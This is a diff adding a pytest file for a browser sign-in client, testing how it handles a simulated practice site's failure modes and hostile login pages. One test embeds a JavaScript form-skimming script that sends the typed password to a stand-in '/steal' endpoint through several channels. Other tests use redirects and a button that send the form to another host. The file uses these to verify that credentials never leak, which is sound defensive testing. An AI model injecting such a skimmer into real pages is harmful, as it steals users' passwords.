@@ -1,0 +1,215 @@
+"""A real browser signs in: to the practice site in all its moods, and to sites that it would never do."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import Callable
+
+import pytest
+
+from idexx_desktop.domain.failures import Failure, FailureCode
+from idexx_desktop.domain.signin import NeoLogin
+from idexx_desktop.neo.session import NeoSession
+from idexx_desktop.neo.site import NeoOptions
+from idexx_desktop.simulator.pages import FORMS
+from idexx_desktop.simulator.site import PracticeNeo
+from tests.neo.support import LOGIN, Canned, OddSite, children, form
+
+Make = Callable[..., NeoSession]
+SECRET = "p&ss wörd/7"
+
+
+def sign_in(session: NeoSession, login: NeoLogin = LOGIN) -> tuple[str, str]:
+    """Sign in once; the name that is shown, and the cookies."""
+
+    async def run() -> tuple[str, str]:
+        async with session:
+            return (await session.sign_in(login)).display_name, session.cookies()
+
+    return asyncio.run(run())
+
+
+def rejected(session: NeoSession, login: NeoLogin = LOGIN) -> Failure:
+    """Sign in once, in vain; why."""
+    with pytest.raises(Failure) as caught:
+        sign_in(session, login)
+    assert session.cookies() == ""
+    assert login.password not in f"{caught.value!r}{caught.value.__context__!r}"
+    return caught.value
+
+
+@pytest.mark.parametrize("variant", FORMS)
+def test_every_known_form_is_filled_in(variant: str, session_to: Make) -> None:
+    before = children()
+    with PracticeNeo(form=FORMS[variant]) as site:
+        name, cookies = sign_in(session_to(site.url))
+        assert (site.sign_ins, site.sign_in_attempts, site.refused_writes) == (1, 1, 0)
+    assert name == "Oak Street Vets"
+    assert LOGIN.password not in cookies
+    assert children() <= before
+
+
+@pytest.mark.parametrize(
+    ("scenario", "code", "submits"),
+    [
+        ("wrong-password", FailureCode.WRONG_PASSWORD, 1),
+        ("locked-out", FailureCode.LOCKED_OUT, 1),
+        ("disabled", FailureCode.ACCOUNT_DISABLED, 1),
+        ("not-from-here", FailureCode.NOT_FROM_HERE, 1),
+        ("password-expired", FailureCode.PASSWORD_EXPIRED, 1),
+        ("code-asked", FailureCode.CODE_ASKED, 1),
+        ("code-on-form", FailureCode.CODE_ASKED, 0),
+        ("redirected", FailureCode.SIGN_IN_REDIRECTED, 0),
+        ("posts-elsewhere", FailureCode.SIGN_IN_REDIRECTED, 0),
+        ("redirected-after", FailureCode.SIGN_IN_REDIRECTED, 1),
+        ("maintenance", FailureCode.MAINTENANCE, 0),
+        ("page-changed", FailureCode.PAGE_CHANGED, 0),
+    ],
+)
+def test_each_way_to_be_turned_away_has_its_name_and_is_tried_once(
+    scenario: str, code: FailureCode, submits: int, session_to: Make
+) -> None:
+    with PracticeNeo(scenario) as site:
+        assert rejected(session_to(site.url)).code is code
+        assert (site.sign_in_attempts, site.sign_ins) == (submits, 0)
+
+
+def test_a_wrong_password_is_told_and_not_repeated(session_to: Make) -> None:
+    with PracticeNeo() as site:
+        assert rejected(session_to(site.url), NeoLogin("4242", LOGIN.username, "no")).code is (
+            FailureCode.WRONG_PASSWORD
+        )
+        assert site.sign_in_attempts == 1
+
+
+def test_a_missing_company_id_is_asked_for_before_typing(session_to: Make) -> None:
+    with PracticeNeo() as site:
+        failure = rejected(session_to(site.url), NeoLogin(" ", LOGIN.username, LOGIN.password))
+        assert failure.code is FailureCode.INVALID_INPUT
+        assert site.sign_in_attempts == 0
+
+
+def test_pages_and_requests_are_counted(session_to: Make) -> None:
+    with PracticeNeo() as site:
+        session = session_to(site.url)
+        sign_in(session)
+        assert session.requests == sum(site.counts.values())
+
+
+def odd(site: OddSite, session_to: Make) -> Failure:
+    """Sign in to an odd site, in vain."""
+    return rejected(session_to(site.url, timeout_seconds=3), NeoLogin("", "ana", SECRET))
+
+
+def test_a_redirect_that_would_repeat_the_password_elsewhere_is_cut(
+    odd_site: OddSite, session_to: Make
+) -> None:
+    odd_site.answers["GET /login"] = form()
+    odd_site.answers["POST /login"] = Canned(status=307, headers={"Location": f"{odd_site.elsewhere}/steal"})
+    failure = odd(odd_site, session_to)
+    assert failure.code is FailureCode.SIGN_IN_REDIRECTED
+    assert "before typing" not in failure.title
+    assert odd_site.asked_elsewhere() == []
+
+
+def test_a_script_cannot_carry_the_password_elsewhere(odd_site: OddSite, session_to: Make) -> None:
+    thief = (
+        "document.forms[0].addEventListener('submit', () => {"
+        f"const to = '{odd_site.elsewhere}/steal?' + document.forms[0].password.value;"
+        "fetch(to, {mode: 'no-cors'}); navigator.sendBeacon(to); new Image().src = to; window.open(to);"
+        "const s = document.createElement('script'); s.src = to; document.head.append(s);"
+        "const f = document.createElement('iframe'); f.src = to; document.body.append(f); });"
+    )
+    odd_site.answers["GET /login"] = form(script=thief)
+    odd_site.answers["POST /login"] = form(alert='<p role="alert">Wrong password</p>')
+    assert odd(odd_site, session_to).code is FailureCode.WRONG_PASSWORD
+    assert odd_site.asked_elsewhere() == []
+    assert [what for what, _, _ in odd_site.asked] == ["GET /login", "POST /login"]
+
+
+def test_a_button_that_sends_the_form_elsewhere_is_noticed(odd_site: OddSite, session_to: Make) -> None:
+    odd_site.answers["GET /login"] = form(
+        extra=f'<button type="submit" formaction="{odd_site.elsewhere}/steal">Sign in</button>'
+    )
+    assert odd(odd_site, session_to).code is FailureCode.SIGN_IN_REDIRECTED
+
+
+def test_a_form_that_is_sent_by_script_shows_its_alert_in_place(odd_site: OddSite, session_to: Make) -> None:
+    odd_site.answers["GET /login"] = form(
+        alert='<p role="alert">Maintenance on Sunday</p>',
+        script="document.forms[0].addEventListener('submit', (e) => { e.preventDefault();"
+        "fetch('/api', {method: 'POST'}).then(() => { document.querySelector('p').innerText = 'Account locked'; }); });",
+    )
+    odd_site.answers["POST /api"] = Canned("{}")
+    assert odd(odd_site, session_to).code is FailureCode.LOCKED_OUT
+
+
+def test_a_form_that_is_built_by_script_is_waited_for(odd_site: OddSite, session_to: Make) -> None:
+    build = (
+        f"setTimeout(() => {{ document.body.innerHTML = `{form().text.replace('script>', 'b>')}`; }}, 300)"
+    )
+    odd_site.answers["GET /login"] = Canned(f"<body><script>{build}</script></body>")
+    odd_site.answers["POST /login"] = form(alert='<p class="alert-danger">Computer says no</p>')
+    assert odd(odd_site, session_to).code is FailureCode.SIGN_IN_REJECTED
+
+
+def test_a_page_behind_the_form_counts_only_if_its_cookies_open_anything(
+    odd_site: OddSite, session_to: Make
+) -> None:
+    odd_site.answers["GET /login"] = form()
+    odd_site.answers["POST /login"] = Canned(status=302, headers={"Location": "/blocked"})
+    odd_site.answers["GET /blocked"] = Canned("<h1>Your IP address is not on the list.</h1>")
+    odd_site.answers["GET /users"] = Canned(status=401)
+    assert odd(odd_site, session_to).code is FailureCode.NOT_FROM_HERE
+
+
+def test_a_code_page_outside_of_the_sign_in_page_is_recognised(odd_site: OddSite, session_to: Make) -> None:
+    odd_site.answers["GET /login"] = form()
+    odd_site.answers["POST /login"] = Canned(status=302, headers={"Location": "/two-factor"})
+    odd_site.answers["GET /two-factor"] = Canned('<form><input name="otp"></form>')
+    odd_site.answers["GET /users"] = Canned(status=302, headers={"Location": "/two-factor"})
+    assert odd(odd_site, session_to).code is FailureCode.CODE_ASKED
+
+
+@pytest.mark.parametrize(
+    ("answer", "code"),
+    [
+        (Canned("down", 500), FailureCode.SERVER_PROBLEM),
+        (Canned("slow down", 429), FailureCode.TOO_MANY_REQUESTS),
+        (Canned("<p>You are not allowed from this location</p>", 403), FailureCode.NOT_FROM_HERE),
+        (Canned("", 403), FailureCode.SIGN_IN_REJECTED),
+    ],
+)
+def test_what_the_submit_is_answered_with_is_named(
+    answer: Canned, code: FailureCode, odd_site: OddSite, session_to: Make
+) -> None:
+    odd_site.answers["GET /login"] = form()
+    odd_site.answers["POST /login"] = answer
+    assert odd(odd_site, session_to).code is code
+
+
+def test_a_page_that_never_comes_to_rest_ends_in_time(odd_site: OddSite, session_to: Make) -> None:
+    odd_site.answers["GET /login"] = form(
+        script="document.forms[0].addEventListener('submit', () => { for (;;) {} });"
+    )
+    assert odd(odd_site, session_to).code is FailureCode.TOO_SLOW
+
+
+def test_no_browser_is_one_message_that_lists_what_was_tried(
+    session_to: Make, monkeypatch: pytest.MonkeyPatch, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    broken = tmp_path_factory.mktemp("browser") / "broken"
+    broken.write_text("#!/bin/sh\nexit 1\n")
+    broken.chmod(0o700)
+    monkeypatch.setenv("PATH", str(broken.parent))
+    with PracticeNeo() as site:
+        session = session_to(site.url)
+        chosen = NeoOptions(site.url, session._options.zone, browser_path=str(broken))
+        failure = rejected(NeoSession(chosen, session._clock, session._chance))
+        assert site.counts == {}
+    assert failure.code is FailureCode.NO_BROWSER
+    assert failure.detail.startswith("the chosen browser: did not start; Edge: not there; Chrome: not there")
+
+
+def test_the_names_in_a_login_are_never_printed() -> None:
+    assert repr(NeoLogin("4242", "ana@example.com", SECRET)) == "NeoLogin()"
